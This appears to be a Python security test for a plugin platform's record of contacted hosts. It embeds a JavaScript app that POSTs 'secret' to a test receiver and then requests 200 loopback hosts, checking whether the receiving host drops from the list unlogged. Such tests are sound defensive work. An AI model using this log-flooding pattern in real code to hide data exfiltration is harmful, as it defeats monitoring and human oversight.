"""The record of contacted hosts, again (see hidden.py): an app sends data first, and asks for 200 other hosts in the same call, all of which it may reach. The host
that has the data was the oldest, gave way, and nobody was told. What is asked for first must be in the list, or else the logs must say how many hosts could
not be listed; and it must be in the list if the others are known already. The others are addresses on loopback where nothing listens."""

import time

from common import Org, arguments, bench, stage

CODE = """
let calls = 0
const others = Array.from({ length: COUNT }, (_, n) => 'http://127.1.1.' + (n + 1) + ':9/')
const send = () => fetch('RECEIVER', { method: 'POST', body: 'secret' }).catch(() => 0)
async function ask(urls) {
    for (let i = 0; i < urls.length; i += 20) await Promise.all(urls.slice(i, i + 20).map((url) => fetch(url).catch(() => 0)))
}
async function onEvent(event) {
    calls += 1
    if (calls === 1) { FIRST } else { SECOND }
}
module.exports = { onEvent }
"""

BOTH = "await send(); await ask(others)"
# What the app does at its first event and at its second, and whether the host must be in the list.
WAYS = {
    "in the first call": (BOTH, "", 200, False),
    "in the first call, with 199 others": (BOTH, "", 199, True),
    "after a call that asked for the others": ("await ask(others)", "await send(); await ask(others.reverse())", 200, True),
    "after a call that sent data already": ("await send()", BOTH, 200, False),
}


def until(seen, within=15):
    """Waits until there is something to see."""
    over = time.time() + within
    while time.time() < over and not seen():
        time.sleep(0.25)


def attempt(server, key, way, first, second, count, must_be_listed):
    receiver, org = bench.Receiver(), Org(server, key, f"Sent {way}"[:60])
    code = CODE.replace("COUNT", str(count)).replace("RECEIVER", receiver.url).replace("FIRST", first).replace("SECOND", second)
    app = org.app({"plugin.json": '{"name": "Sent first"}', "index.js": code})
    config = org.enable(app)
    at = f"{app}configs/{config}/"
    listed = lambda: {one["host"]: one["last_at"] for one in org.ask("GET", at + "hosts/?limit=300").body["results"]}
    for _ in range(2 if second else 1):
        before = listed()
        org.send(1)
        until(lambda: listed() != before)
    lines = [line["message"] for line in org.ask("GET", at + "logs/?limit=100").body["results"]]
    said = [line for line in lines if "more hosts were requested than are listed" in line]
    hosts = listed()
    is_listed = "127.0.0.1" in hosts
    org.ask("DELETE", app)
    outcome = f"{len(receiver.seen)} requests arrived; {len(hosts)} hosts listed, the one that has the data: {is_listed}; logs: {said or 'nothing'}"
    held = bool(receiver.seen) and (is_listed or (bool(said) and not must_be_listed))
    bench.record("18.3", f"data first, then other hosts, {way}", outcome, held)


def main():
    given = arguments(__doc__)
    with stage(given, 1) as (server, keys, _):
        for way, steps in WAYS.items():
            attempt(server, keys[0], way, *steps)
    bench.finish()


main()
